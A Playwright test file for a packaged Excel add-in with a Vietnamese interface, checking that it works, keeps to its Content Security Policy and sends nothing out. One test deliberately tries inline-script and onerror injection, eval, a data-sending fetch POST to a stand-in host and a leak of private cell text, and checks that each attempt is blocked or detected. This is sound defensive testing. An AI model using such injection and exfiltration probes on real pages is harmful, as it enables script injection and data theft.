import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Frame, Page, Request } from 'playwright-core';
import { unzipSync } from 'fflate';
import { version } from '../../package.json';
import { OFFICE_JS } from '../../src/setup/package/content-policy';
import { makePackage } from '../../src/setup/package/make-package';
import { buildIfStale } from '../../src/workbench/build';
import { readXlsx } from '../../src/xlsx/read';
import { axeViolations, launchBrowser, screenshotPath } from '../support/browser';
import { startSite, type PackagedFiles, type PackagedSite } from '../support/packaged-site';
import { drawnCharts, openWorkbench, planCell, typeInGrid } from '../support/workbench-page';

/** What `npm run package` writes, served over HTTPS as an office would, with the stand-in for Excel around it. */
const root = join(__dirname, '..', '..');
const folder = mkdtempSync(join(tmpdir(), 'package-'));
let browser: Browser;
let site: PackagedSite;
let port: number;
let own: PackagedFiles;
const baseUrl = () => `https://localhost:${port}/cchc`;

/** The program as IT staff run it; what it writes, unpacked. */
function npmRunPackage(...words: string[]): PackagedFiles {
  const out = join(folder, 'own.zip');
  execFileSync(process.execPath, ['src/setup/package.mjs', ...words, '--out', out], { cwd: root, encoding: 'utf8' });
  return unpacked(readFileSync(out));
}

const unpacked = (zip: Uint8Array): PackagedFiles => new Map(Object.entries(unzipSync(zip)));

const textOf = (files: PackagedFiles, path: string) => new TextDecoder().decode(files.get(path));

beforeAll(async () => {
  buildIfStale();
  port = await freePort();
  site = await startSite(port);
  browser = await launchBrowser();
  own = npmRunPackage('--trial', '--base-url', baseUrl(), '--office-js', `https://localhost:${port}/office/office.js`);
}, 300_000);
afterAll(async () => {
  await browser?.close();
  await site?.close();
  rmSync(folder, { recursive: true });
});

function freePort(): Promise<number> {
  const probe = createServer();
  return new Promise((done) =>
    probe.listen(0, '127.0.0.1', () => {
      const { port: found } = probe.address() as AddressInfo;
      probe.close(() => done(found));
    }),
  );
}

/** Everything that leaves the pages of a context, and every break of their policy. */
function watch(context: BrowserContext) {
  const requests: Request[] = [];
  const broken: string[] = [];
  context.on('request', (request) => requests.push(request));
  context.on('console', (message) => {
    if (/Content Security Policy/.test(message.text())) broken.push(message.text());
  });
  return {
    requests,
    broken,
    foreign: () =>
      requests
        .map((request) => request.url())
        .filter((url) => !url.startsWith(`https://localhost:${port}/`) && !/^(data|blob):/.test(url)),
    /** Requests that carry anything but the name of a file, or any of these texts. */
    telling: (texts: readonly string[]) =>
      requests.filter((request) => {
        const address = decodeURIComponent(request.url());
        const parts = [address, request.postData() ?? '', ...Object.values(request.headers())];
        const bare = request.method() === 'GET' && new URL(request.url()).search === '' && request.postData() === null;
        return !bare || texts.some((text) => parts.some((part) => part.includes(text)));
      }),
  };
}

/** Texts of the workbook's cells that are long enough to be known again. */
function cellTexts(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    type Cells = ({ value?: unknown } | null | undefined)[] | undefined;
    const { host } = (window as unknown as { cchcWorkbench: { host: { workbook: { sheets: { rows: Cells[] }[] } } } })
      .cchcWorkbench;
    const values = host.workbook.sheets.flatMap(({ rows }) =>
      rows.flatMap((cells) => (cells ?? []).map((cell) => cell?.value)),
    );
    return [...new Set(values)].filter((value): value is string => typeof value === 'string' && value.length >= 8);
  });
}

const press = (pane: Frame, name: string | RegExp) => pane.getByRole('button', { name }).click();
const seen = (pane: Frame, text: RegExp) => pane.getByText(text).first().waitFor();

test('does the main job, a file read in a worker included, under its own policy and without telling anybody', async () => {
  site.serve(own);
  const context = await browser.newContext({
    viewport: { width: 1280, height: 800 },
    ignoreHTTPSErrors: true,
    acceptDownloads: true,
  });
  const { foreign, telling, broken, requests } = watch(context);
  const { page, pane, problems } = await openWorkbench(
    { newPage: () => context.newPage() } as unknown as Browser,
    `${baseUrl()}/workbench.html`,
  );
  const workers: string[] = [];
  page.on('worker', (worker) => workers.push(worker.url()));
  await pane.getByRole('link', { name: 'Nhập kế hoạch từ tệp .xlsx…' }).click();
  await pane.getByRole('button', { name: 'Chọn tệp .xlsx…' }).waitFor();
  await pane.setInputFiles('input[type=file]', join(root, 'test/import-sources/task-groups.xlsx'));
  await press(pane, /^Nạp \d+ nhiệm vụ vào sổ này$/);
  await seen(pane, /Đã nạp kế hoạch/);
  await typeInGrid(page, await planCell(page, 'Ghi chú'), 'Chuyện riêng của cơ quan');
  await pane.getByRole('link', { name: 'Kiểm tra' }).click();
  await pane.getByRole('heading', { name: 'Kiểm tra kế hoạch' }).waitFor();
  // A cell's text in the pane is text, whatever it looks like.
  const deadline = await planCell(page, 'Thời gian hoàn thành');
  await typeInGrid(page, deadline, '<i class="planted">31/6</i>');
  await seen(pane, /<i class="planted">31\/6<\/i>/);
  expect(await pane.locator('.planted').count()).toBe(0);
  await pane.getByRole('link', { name: 'Tổng hợp' }).click();
  await press(pane, 'Tổng hợp và vẽ biểu đồ');
  await seen(pane, /Đã tổng hợp|không có gì phải ghi/);
  await press(pane, 'Xem biểu đồ');
  expect((await drawnCharts(page)).length).toBeGreaterThan(0);
  await page.screenshot({ path: screenshotPath('package-charts') });

  const texts = await cellTexts(page);
  expect(texts).toContain('Chuyện riêng của cơ quan');
  expect(workers).toEqual([expect.stringContaining(`${baseUrl()}/`) as unknown]);
  expect(requests.length).toBeGreaterThan(10);
  expect(problems).toEqual([]);
  expect(broken).toEqual([]);
  expect(foreign()).toEqual([]);
  expect(telling(texts).map((request) => request.url())).toEqual([]);

  // The same watchers, with something to find.
  const tried = await pane.evaluate(async () => {
    const failed = (error: unknown) => (error as Error).name;
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    document.body.append(script);
    const picture = document.createElement('img');
    picture.setAttribute('onerror', 'window.ran = true');
    picture.src = 'data:,';
    document.body.append(picture);
    await new Promise((done) => setTimeout(done, 100));
    let evaluated = 'yes';
    try {
      new Function('return 1')();
    } catch (error) {
      evaluated = failed(error);
    }
    return {
      inline: 'ran' in window,
      evaluated,
      sent: await fetch('https://example.invalid/thu', { method: 'POST', body: 'x' }).then(() => 'sent', failed),
      told: await fetch(`manifest.xml?x=${encodeURIComponent('Chuyện riêng của cơ quan')}`).then(() => 'told', failed),
    };
  });
  // "told": to the office's own server nothing is forbidden, so only a watcher sees it.
  expect(tried).toEqual({ inline: false, evaluated: 'EvalError', sent: 'TypeError', told: 'told' });
  expect(broken.length).toBeGreaterThanOrEqual(4);
  expect(telling(texts)).toHaveLength(1);
  await context.close();
});

test('is shown in its own windows and Excel’s only', async () => {
  site.serve(own);
  const page = await browser.newPage({ ignoreHTTPSErrors: true });
  const refused = page.waitForEvent('console', { predicate: (message) => /frame-ancestors/.test(message.text()) });
  await page.setContent(`<iframe src="${baseUrl()}/taskpane.html"></iframe>`);
  await refused;
  await page.close();
});

test('gets Office.js from Microsoft where no other address is given, and is the same file each time', async () => {
  const make = () =>
    makePackage(join(root, 'dist'), { baseUrl: baseUrl(), officeJs: OFFICE_JS, version, notices: '', security: '' });
  const { zip } = make();
  expect(Buffer.compare(make().zip, zip)).toBe(0);
  site.serve(unpacked(zip));
  const context = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 320, height: 480 } });
  const { broken, foreign } = watch(context);
  const page = await context.newPage();
  // The internet of an office that does not let Microsoft's server through.
  await context.route('https://appsforoffice.microsoft.com/**', (route) => route.abort());
  await page.goto(`${baseUrl()}/taskpane.html`);
  await page.getByRole('heading', { name: 'Chưa kết nối được với Excel' }).waitFor();
  expect(foreign()).toEqual([OFFICE_JS]);
  expect(broken).toEqual([]);
  expect(await axeViolations(page)).toEqual([]);

  const link = page.getByRole('link', { name: /^Tệp mẫu kế hoạch năm/ }).first();
  const address = await link.evaluate((element) => (element as HTMLAnchorElement).href);
  expect(await page.getByText(address).isVisible()).toBe(true);
  const bytes = await (await context.request.get(address)).body();
  const year = /\d{4}/.exec((await link.textContent()) ?? '')?.[0];
  const { sheets, properties } = readXlsx(new Uint8Array(bytes), 'mau.xlsx');
  expect(sheets.map(({ name }) => name)).toEqual(expect.arrayContaining(['Hướng dẫn', 'Thông tin', 'Kế hoạch']));
  expect(properties.title).toContain(`năm ${year}`);
  await context.close();
});

test('brings an installation guide of one printed page', async () => {
  const page = await browser.newPage();
  await page.setContent(textOf(own, 'HUONG-DAN-CAI-DAT.html'));
  expect(await axeViolations(page)).toEqual([]);
  const file = join(folder, 'guide.pdf');
  writeFileSync(file, await page.pdf({ preferCSSPageSize: true }));
  expect(execFileSync('pdfinfo', [file], { encoding: 'utf8' })).toMatch(/Pages: +1\n[\s\S]*A4/);
  await page.close();
});

test('a wrong address is told in one sentence and nothing is written', () => {
  const run = () =>
    execFileSync(process.execPath, ['src/setup/package.mjs', '--base-url', 'http://may-chu'], {
      cwd: root,
      encoding: 'utf8',
      stdio: 'pipe',
    });
  expect(run).toThrow('--base-url cần địa chỉ https, không phải "http://may-chu"');
});
